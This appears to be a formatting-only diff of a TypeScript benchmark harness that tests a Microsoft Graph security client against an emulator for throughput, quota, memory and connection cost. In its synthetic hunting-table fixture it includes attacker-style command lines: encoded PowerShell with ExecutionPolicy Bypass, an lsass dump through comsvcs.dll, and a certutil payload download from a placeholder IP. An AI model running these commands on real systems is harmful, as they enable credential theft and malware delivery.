@@ -6,7 +6,13 @@ import { createHash } from 'node:crypto';
 import os from 'node:os';
 import path from 'node:path';
 
-import { createLab, emulator, stopEmulator, type Emulator, type EmulatorRequest } from '../test/support/lab';
+import {
+	createLab,
+	emulator,
+	stopEmulator,
+	type Emulator,
+	type EmulatorRequest,
+} from '../test/support/lab';
 import { runInChild, type RunOutcome, type RunSpec } from './ipc';
 import { formatMs, machineInfo, median, writeReport, type Row } from './report';
 import { scaleAcrossWorkers } from './scale';
@@ -24,12 +30,21 @@ interface Settings {
 }
 
 function settingsFromEnv(): Settings {
-	const latency = (process.env.BENCH_LATENCY ?? '30,80').split(',').map((part) => Number(part.trim()));
-	if (latency.length !== 2 || latency.some((value) => !Number.isFinite(value) || value < 0) || latency[0] > latency[1]) {
-		throw new Error(`BENCH_LATENCY must be "min,max" in milliseconds, e.g. 30,80 (got "${process.env.BENCH_LATENCY}")`);
+	const latency = (process.env.BENCH_LATENCY ?? '30,80')
+		.split(',')
+		.map((part) => Number(part.trim()));
+	if (
+		latency.length !== 2 ||
+		latency.some((value) => !Number.isFinite(value) || value < 0) ||
+		latency[0] > latency[1]
+	) {
+		throw new Error(
+			`BENCH_LATENCY must be "min,max" in milliseconds, e.g. 30,80 (got "${process.env.BENCH_LATENCY}")`,
+		);
 	}
 	const repetitions = Number(process.env.BENCH_REPS ?? 3);
-	if (!Number.isInteger(repetitions) || repetitions < 1 || repetitions > 9) throw new Error('BENCH_REPS must be an integer from 1 to 9');
+	if (!Number.isInteger(repetitions) || repetitions < 1 || repetitions > 9)
+		throw new Error('BENCH_REPS must be an integer from 1 to 9');
 	// BENCH_SMOKE=1: a small, quick pass to check that the benchmark itself works (its numbers mean little).
 	const smoke = process.env.BENCH_SMOKE === '1';
 	return {
@@ -37,7 +52,9 @@ function settingsFromEnv(): Settings {
 		repetitions: smoke ? 1 : repetitions,
 		incidents: smoke ? 1_000 : 10_000,
 		huntingRows: smoke ? 10_000 : 100_000,
-		quota: smoke ? { limit: 50, windowSeconds: 2, calls: 100 } : { limit: 50, windowSeconds: 5, calls: 200 },
+		quota: smoke
+			? { limit: 50, windowSeconds: 2, calls: 100 }
+			: { limit: 50, windowSeconds: 5, calls: 200 },
 		concurrentExecutions: 50,
 		smoke,
 	};
@@ -55,14 +72,27 @@ class Bench {
 		readonly settings: Settings,
 	) {}
 
-	async run<T extends Record<string, unknown>>(spec: RunSpec, timeoutMs = 120_000): Promise<RunOutcome<T>> {
-		return await runInChild<T>(spec, { timeoutMs, requestLogLength: () => this.emu.requests.length });
+	async run<T extends Record<string, unknown>>(
+		spec: RunSpec,
+		timeoutMs = 120_000,
+	): Promise<RunOutcome<T>> {
+		return await runInChild<T>(spec, {
+			timeoutMs,
+			requestLogLength: () => this.emu.requests.length,
+		});
 	}
 
 	/** The requests for these tenants between two marks of a run. */
-	requestsBetween(tenants: string[], outcome: RunOutcome<Record<string, unknown>>, from = 'start', to = 'end'): EmulatorRequest[] {
+	requestsBetween(
+		tenants: string[],
+		outcome: RunOutcome<Record<string, unknown>>,
+		from = 'start',
+		to = 'end',
+	): EmulatorRequest[] {
 		const ids = new Set(tenants.map((tenant) => tenant.toLowerCase()));
-		return this.emu.requests.slice(outcome.marks[from], outcome.marks[to]).filter((request) => request.tenant !== null && ids.has(request.tenant.toLowerCase()));
+		return this.emu.requests
+			.slice(outcome.marks[from], outcome.marks[to])
+			.filter((request) => request.tenant !== null && ids.has(request.tenant.toLowerCase()));
 	}
 
 	elapsed(): string {
@@ -79,11 +109,19 @@ async function tokenEconomy(bench: Bench): Promise<void> {
 		const tenants = [lab.tenantId];
 		while (tenants.length < tenantCount) tenants.push(lab.addTenant());
 		for (const tenant of tenants) bench.emu.seedIncidents(tenant, 3);
-		const outcome = await bench.run<{ ms: number; failures: number; firstFailure: string | null; items: number }>({
+		const outcome = await bench.run<{
+			ms: number;
+			failures: number;
+			firstFailure: string | null;
+			items: number;
+		}>({
 			scenario: 'tokens',
 			params: { credentials: lab.credentials, tenants, executions },
 		});
-		if (outcome.result.failures > 0) throw new Error(`token row: ${outcome.result.failures} executions failed: ${outcome.result.firstFailure}`);
+		if (outcome.result.failures > 0)
+			throw new Error(
+				`token row: ${outcome.result.failures} executions failed: ${outcome.result.firstFailure}`,
+			);
 		const tokenRequests = lab.tokenRequests();
 		const listCalls = lab.calls({ api: 'graph' }).length;
 		bench.rows.push({
@@ -96,8 +134,12 @@ async function tokenEconomy(bench: Bench): Promise<void> {
 			target: String(tenantCount),
 			ok: tokenRequests === tenantCount,
 		});
-		bench.notes.push(`1${tenantCount === 1 ? 'a' : 'b'}: ${executions} executions, 0 failed, ${listCalls} list calls, ${formatMs(outcome.result.ms)} for all of them.`);
-		log(`row 1 (${tenantCount} tenant${tenantCount > 1 ? 's' : ''}): ${tokenRequests} token request(s) [${bench.elapsed()}]`);
+		bench.notes.push(
+			`1${tenantCount === 1 ? 'a' : 'b'}: ${executions} executions, 0 failed, ${listCalls} list calls, ${formatMs(outcome.result.ms)} for all of them.`,
+		);
+		log(
+			`row 1 (${tenantCount} tenant${tenantCount > 1 ? 's' : ''}): ${tokenRequests} token request(s) [${bench.elapsed()}]`,
+		);
 	}
 }
 
@@ -112,11 +154,18 @@ async function vulnerabilityListing(bench: Bench): Promise<void> {
 	const times = { node: [] as number[], fetch: [] as number[] };
 	const requestCounts = new Set<number>();
 	for (let rep = 0; rep < repetitions; rep++) {
-		for (const mode of rep % 2 === 0 ? (['node', 'fetch'] as const) : (['fetch', 'node'] as const)) {
-			const outcome = await bench.run<{ ms: number; count: number }>({ scenario: 'vulnerabilities', params: { credentials: lab.credentials, mode, expected: count } });
+		for (const mode of rep % 2 === 0
+			? (['node', 'fetch'] as const)
+			: (['fetch', 'node'] as const)) {
+			const outcome = await bench.run<{ ms: number; count: number }>({
+				scenario: 'vulnerabilities',
+				params: { credentials: lab.credentials, mode, expected: count },
+			});
 			times[mode].push(outcome.result.ms);
 			if (mode === 'node') requestCounts.add(bench.requestsBetween([lab.tenantId], outcome).length);
-			log(`row 7 ${mode} ${rep + 1}/${repetitions}: ${formatMs(outcome.result.ms)} [${bench.elapsed()}]`);
+			log(
+				`row 7 ${mode} ${rep + 1}/${repetitions}: ${formatMs(outcome.result.ms)} [${bench.elapsed()}]`,
+			);
 		}
 	}
 	const expectedRequests = Math.ceil(count / page);
@@ -131,7 +180,13 @@ async function vulnerabilityListing(bench: Bench): Promise<void> {
 			target: `${expectedRequests} (ceil(N/page))`,
 			ok: made.length === 1 && made[0] === expectedRequests,
 		},
-		{ id: '7b', what: `… wall time node ÷ minimal fetch loop (median of ${repetitions} paired runs)`, value: ratio.toFixed(2), target: '≤ 1.10', ok: ratio <= 1.1 },
+		{
+			id: '7b',
+			what: `… wall time node ÷ minimal fetch loop (median of ${repetitions} paired runs)`,
+			value: ratio.toFixed(2),
+			target: '≤ 1.10',
+			ok: ratio <= 1.1,
+		},
 	);
 	bench.notes.push(
 		`7a–7b: node ${times.node.map(formatMs).join(', ')} (median ${formatMs(median(times.node))}); fetch loop ${times.fetch.map(formatMs).join(', ')} (median ${formatMs(median(times.fetch))}); ratios per repetition ${ratios.map((r) => r.toFixed(3)).join(', ')}.`,
@@ -156,8 +211,13 @@ async function listing(bench: Bench): Promise<void> {
 		const peaks: number[] = [];
 		for (let rep = 0; rep < repetitions; rep++) {
 			// Alternate the order so that a slow phase of the machine does not always hit the same side.
-			for (const mode of rep % 2 === 0 ? (['node', 'fetch'] as const) : (['fetch', 'node'] as const)) {
-				const outcome = await bench.run<{ ms: number; cpuMs: number; count: number }>({ scenario: 'list', params: { credentials: lab.credentials, api, mode, expected: incidents } });
+			for (const mode of rep % 2 === 0
+				? (['node', 'fetch'] as const)
+				: (['fetch', 'node'] as const)) {
+				const outcome = await bench.run<{ ms: number; cpuMs: number; count: number }>({
+					scenario: 'list',
+					params: { credentials: lab.credentials, api, mode, expected: incidents },
+				});
 				const made = bench.requestsBetween([lab.tenantId], outcome).length;
 				times[mode].push(outcome.result.ms);
 				clientCpu[mode].push(outcome.result.cpuMs / made);
@@ -166,7 +226,9 @@ async function listing(bench: Bench): Promise<void> {
 					requestCounts.add(made);
 					peaks.push(outcome.maxRssBytes);
 				} else fetchRequestCounts.add(made);
-				log(`row 2 ${label} ${mode} ${rep + 1}/${repetitions}: ${formatMs(outcome.result.ms)}, ${made} requests [${bench.elapsed()}]`);
+				log(
+					`row 2 ${label} ${mode} ${rep + 1}/${repetitions}: ${formatMs(outcome.result.ms)}, ${made} requests [${bench.elapsed()}]`,
+				);
 			}
 		}
 		const id = '2';
@@ -230,12 +292,23 @@ async function quotaThroughput(bench: Bench): Promise<void> {
 			// A fresh tenant per shape: fresh quota windows at the emulator and in the client.
 			const lab = await createLab({ quotaWindowSeconds: windowSeconds });
 			bench.emu.seedIncidents(lab.tenantId, 3);
-			const outcome = await bench.run<{ ms: number; failures: number; firstFailure: string | null }>(
+			const outcome = await bench.run<{
+				ms: number;
+				failures: number;
+				firstFailure: string | null;
+			}>(
 				{ scenario: 'quota', params: { credentials: lab.credentials, calls, executions } },
 				180_000,
 			);
-			const lists = bench.requestsBetween([lab.tenantId], outcome).filter((request) => request.api === 'graph' && request.path.endsWith('/security/incidents'));
-			const accepted = lists.filter((request) => request.status === 200).map((request) => Date.parse((request as EmulatorRequest & { at: string }).at)).sort((a, b) => a - b);
+			const lists = bench
+				.requestsBetween([lab.tenantId], outcome)
+				.filter(
+					(request) => request.api === 'graph' && request.path.endsWith('/security/incidents'),
+				);
+			const accepted = lists
+				.filter((request) => request.status === 200)
+				.map((request) => Date.parse((request as EmulatorRequest & { at: string }).at))
+				.sort((a, b) => a - b);
 			const throttled = lists.filter((request) => request.status === 429).length;
 			total429 += throttled;
 			totalCalls += lists.length;
@@ -247,14 +320,36 @@ async function quotaThroughput(bench: Bench): Promise<void> {
 			const span = accepted[accepted.length - 1] - from;
 			const fraction = span > 0 ? (windowsNeeded * windowMs) / span : Number.NaN;
 			// What each window cycle lost (latency, queueing, the limiter's margin), and what the same loss means for Microsoft's 60 s window.
-			const lossPerWindow = windowsNeeded > 0 ? (span - windowsNeeded * windowMs) / windowsNeeded : Number.NaN;
+			const lossPerWindow =
+				windowsNeeded > 0 ? (span - windowsNeeded * windowMs) / windowsNeeded : Number.NaN;
 			const projected = 60_000 / (60_000 + Math.max(0, lossPerWindow));
-			const label = shape === 'items' ? `${executions} concurrent executions × ${calls / executions} items` : `${calls} concurrent executions × 1 item`;
+			const label =
+				shape === 'items'
+					? `${executions} concurrent executions × ${calls / executions} items`
+					: `${calls} concurrent executions × 1 item`;
 			const suffix = shape === 'items' ? ['a', 'b', 'c'] : ['d', 'e', 'f'];
 			bench.rows.push(
-				{ id: `3${suffix[0]}`, what: `Quota ${limit} list calls / ${windowSeconds} s, ${label} of Get Many (Limit 1): failed items`, value: String(outcome.result.failures), target: '0', ok: outcome.result.failures === 0 },
-				{ id: `3${suffix[1]}`, what: `… 429 answers received`, value: String(throttled), target: '~0 (≤ 1 % of calls)', ok: throttled <= calls / 100 },
-				{ id: `3${suffix[2]}`, what: `… achieved rate ÷ quota`, value: Number.isNaN(fraction) ? 'n/a' : fraction.toFixed(3), target: '≥ 0.90', ok: fraction >= 0.9 },
+				{
+					id: `3${suffix[0]}`,
+					what: `Quota ${limit} list calls / ${windowSeconds} s, ${label} of Get Many (Limit 1): failed items`,
+					value: String(outcome.result.failures),
+					target: '0',
+					ok: outcome.result.failures === 0,
+				},
+				{
+					id: `3${suffix[1]}`,
+					what: `… 429 answers received`,
+					value: String(throttled),
+					target: '~0 (≤ 1 % of calls)',
+					ok: throttled <= calls / 100,
+				},
+				{
+					id: `3${suffix[2]}`,
+					what: `… achieved rate ÷ quota`,
+					value: Number.isNaN(fraction) ? 'n/a' : fraction.toFixed(3),
+					target: '≥ 0.90',
+					ok: fraction >= 0.9,
+				},
 			);
 			bench.notes.push(
 				`3${suffix[0]}–3${suffix[2]} (${label}): ${accepted.length} calls accepted, ${throttled} refused with 429, wall time ${formatMs(outcome.result.ms)}; ` +
@@ -263,30 +358,56 @@ async function quotaThroughput(bench: Bench): Promise<void> {
 					(outcome.result.firstFailure ? `; first failure: ${outcome.result.firstFailure}` : '') +
 					'.',
 			);
-			log(`row 3 (${label}): ${accepted.length} ok, ${throttled} × 429, fraction ${fraction.toFixed(3)}, ${formatMs(outcome.result.ms)} [${bench.elapsed()}]`);
+			log(
+				`row 3 (${label}): ${accepted.length} ok, ${throttled} × 429, fraction ${fraction.toFixed(3)}, ${formatMs(outcome.result.ms)} [${bench.elapsed()}]`,
+			);
 		}
 	} finally {
 		bench.emu.clearQuotas();
 	}
 	const per1000 = totalCalls > 0 ? (total429 / totalCalls) * 1000 : 0;
-	bench.rows.push({ id: '5a', what: `429 answers per 1,000 list calls in row 3 (${totalCalls} calls sent)`, value: per1000.toFixed(1), target: '~0 (≤ 10)', ok: per1000 <= 10 });
+	bench.rows.push({
+		id: '5a',
+		what: `429 answers per 1,000 list calls in row 3 (${totalCalls} calls sent)`,
+		value: per1000.toFixed(1),
+		target: '~0 (≤ 10)',
+		ok: per1000 <= 10,
+	});
 }
 
 // ---- Row 4 ----
 
 /** 10 columns of the kinds DeviceProcessEvents has; hashes make 16-digit runs appear, as real data does. */
 function huntingTable(rows: number) {
-	const hash = (algorithm: string, i: number) => createHash(algorithm).update(`bench-${i}`).digest('hex');
+	const hash = (algorithm: string, i: number) =>
+		createHash(algorithm).update(`bench-${i}`).digest('hex');
 	const devices = Array.from({ length: 97 }, (_, i) => hash('sha1', i));
 	const files = Array.from({ length: 997 }, (_, i) => hash('sha256', i));
-	const actions = ['ProcessCreated', 'OpenProcessApiCall', 'CreateRemoteThreadApiCall', 'ProcessTampering'];
+	const actions = [
+		'ProcessCreated',
+		'OpenProcessApiCall',
+		'CreateRemoteThreadApiCall',
+		'ProcessTampering',
+	];
 	const commands = [
-		['powershell.exe', 'powershell.exe -NoProfile -ExecutionPolicy Bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'],
+		[
+			'powershell.exe',
+			'powershell.exe -NoProfile -ExecutionPolicy Bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
+		],
 		['cmd.exe', 'cmd.exe /c whoami /all > C:\\Users\\Public\\w.txt'],
-		['rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full'],
-		['certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/payload.bin C:\\Temp\\a.exe'],
+		[
+			'rundll32.exe',
+			'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full',
+		],
+		[
+			'certutil.exe',
+			'certutil.exe -urlcache -split -f http://203.0.113.7/payload.bin C:\\Temp\\a.exe',
+		],
 		['svchost.exe', 'svchost.exe -k netsvcs -p -s Schedule'],
-		['msedge.exe', '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=renderer'],
+		[
+			'msedge.exe',
+			'"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=renderer',
+		],
 	];
 	const accounts = ['alice', 'bob', 'carol', 'system', 'svc-backup'];
 	const start = Date.UTC(2026, 10, 1);
@@ -314,7 +435,10 @@ function huntingTable(rows: number) {
 			ProcessCommandLine: commands[i % commands.length][1],
 			AccountName: accounts[i % accounts.length],
 			ProcessId: 1000 + ((i * 7919) % 60_000),
-			AdditionalFields: JSON.stringify({ ProcessIntegrityLevel: i % 3 ? 'Medium' : 'High', ProcessTokenElevation: 'TokenElevationTypeDefault' }),
+			AdditionalFields: JSON.stringify({
+				ProcessIntegrityLevel: i % 3 ? 'Medium' : 'High',
+				ProcessTokenElevation: 'TokenElevationTypeDefault',
+			}),
 		}),
 	};
 }
@@ -330,17 +454,32 @@ async function huntingScale(bench: Bench): Promise<void> {
 	const peaks: number[] = [];
 	const sizes = new Set<number>();
 	for (let rep = 0; rep < repetitions; rep++) {
-		for (const mode of rep % 2 === 0 ? (['node', 'fetch'] as const) : (['fetch', 'node'] as const)) {
-			const outcome = await bench.run<{ ms: number; cpuMs: number; rssGrowth: number; bytes: number | null }>({
+		for (const mode of rep % 2 === 0
+			? (['node', 'fetch'] as const)
+			: (['fetch', 'node'] as const)) {
+			const outcome = await bench.run<{
+				ms: number;
+				cpuMs: number;
+				rssGrowth: number;
+				bytes: number | null;
+			}>({
 				scenario: 'hunting',
-				params: { credentials: lab.credentials, mode, table: 'BenchProcessEvents', rows, columns: table.schema.length },
+				params: {
+					credentials: lab.credentials,
+					mode,
+					table: 'BenchProcessEvents',
+					rows,
+					columns: table.schema.length,
+				},
 			});
 			times[mode].push(outcome.result.ms);
 			growth[mode].push(outcome.result.rssGrowth);
 			cpu[mode].push(outcome.result.cpuMs);
 			if (mode === 'node') peaks.push(outcome.maxRssBytes);
 			if (outcome.result.bytes !== null) sizes.add(outcome.result.bytes);
-			log(`row 4 ${mode} ${rep + 1}/${repetitions}: ${formatMs(outcome.result.ms)}, RSS +${(outcome.result.rssGrowth / 2 ** 20).toFixed(0)} MB [${bench.elapsed()}]`);
+			log(
+				`row 4 ${mode} ${rep + 1}/${repetitions}: ${formatMs(outcome.result.ms)}, RSS +${(outcome.result.rssGrowth / 2 ** 20).toFixed(0)} MB [${bench.elapsed()}]`,
+			);
 		}
 	}
 	const bytes = Math.max(...sizes);
@@ -356,8 +495,20 @@ async function huntingScale(bench: Bench): Promise<void> {
 			target: '≤ 1.50',
 			ok: ratio <= 1.5,
 		},
-		{ id: '4b', what: `… peak RSS growth of the node's process ÷ raw body size (median of ${repetitions})`, value: memory.toFixed(2), target: '≤ 4', ok: memory <= 4 },
-		{ id: '4c', what: `… the same for fetch + res.text() + JSON.parse, for reference`, value: (median(growth.fetch) / bytes).toFixed(2), target: 'report', ok: null },
+		{
+			id: '4b',
+			what: `… peak RSS growth of the node's process ÷ raw body size (median of ${repetitions})`,
+			value: memory.toFixed(2),
+			target: '≤ 4',
+			ok: memory <= 4,
+		},
+		{
+			id: '4c',
+			what: `… the same for fetch + res.text() + JSON.parse, for reference`,
+			value: (median(growth.fetch) / bytes).toFixed(2),
+			target: 'report',
+			ok: null,
+		},
 	);
 	bench.notes.push(
 		`4a–4c: raw body ${bytes.toLocaleString('en-US')} bytes (${mb(bytes)} MB, Graph runHuntingQuery)${sizes.size > 1 ? ` (sizes differed: ${[...sizes].join(', ')})` : ''}; ` +
@@ -376,7 +527,10 @@ async function connectionCost(bench: Bench): Promise<void> {
 	bench.emu.setLatency([0, 0]);
 	let outcome: RunOutcome<{ keptAlive: number[]; fresh: number[] }>;
 	try {
-		outcome = await bench.run({ scenario: 'connections', params: { credentials: lab.credentials, calls } });
+		outcome = await bench.run({
+			scenario: 'connections',
+			params: { credentials: lab.credentials, calls },
+		});
 	} finally {
 		bench.emu.setLatency(bench.settings.latency);
 	}
@@ -389,7 +543,9 @@ async function connectionCost(bench: Bench): Promise<void> {
 		target: 'report',
 		ok: null,
 	});
-	bench.notes.push(`5b: per call, fetch over a kept-alive connection ${median(keptAlive).toFixed(1)} ms, https over a new connection ${median(fresh).toFixed(1)} ms (medians of ${calls}, alternating, emulator latency 0).`);
+	bench.notes.push(
+		`5b: per call, fetch over a kept-alive connection ${median(keptAlive).toFixed(1)} ms, https over a new connection ${median(fresh).toFixed(1)} ms (medians of ${calls}, alternating, emulator latency 0).`,
+	);
 	log(`row 5b: new connection costs ${cost.toFixed(1)} ms per call [${bench.elapsed()}]`);
 }
 
@@ -400,8 +556,12 @@ export async function orchestrate(): Promise<void> {
 	const bench = new Bench(emu, settings);
 	const startedAt = new Date();
 	const loadAtStart = os.loadavg();
-	log(`latency ${settings.latency.join('–')} ms per call, ${settings.repetitions} repetitions where timing matters`);
-	const rows = new Set((process.env.BENCH_ROWS ?? '1,2,3,4,5,6,7').split(',').map((row) => row.trim()));
+	log(
+		`latency ${settings.latency.join('–')} ms per call, ${settings.repetitions} repetitions where timing matters`,
+	);
+	const rows = new Set(
+		(process.env.BENCH_ROWS ?? '1,2,3,4,5,6,7').split(',').map((row) => row.trim()),
+	);
 	try {
 		if (rows.has('1')) await tokenEconomy(bench);
 		if (rows.has('2')) await listing(bench);
@@ -420,7 +580,9 @@ export async function orchestrate(): Promise<void> {
 		startedAt,
 		durationMs,
 		settings: [
-			...(settings.smoke ? ['**SMOKE RUN (BENCH_SMOKE=1): reduced sizes, not the benchmark**'] : []),
+			...(settings.smoke
+				? ['**SMOKE RUN (BENCH_SMOKE=1): reduced sizes, not the benchmark**']
+				: []),
 			...(rows.size < 7 ? [`**only rows ${[...rows].join(', ')} (BENCH_ROWS)**`] : []),
 			`emulator latency ${settings.latency.join('–')} ms per call (uniform; BENCH_LATENCY=min,max)`,
 			`${settings.repetitions} repetitions where timing matters (BENCH_REPS), medians reported`,
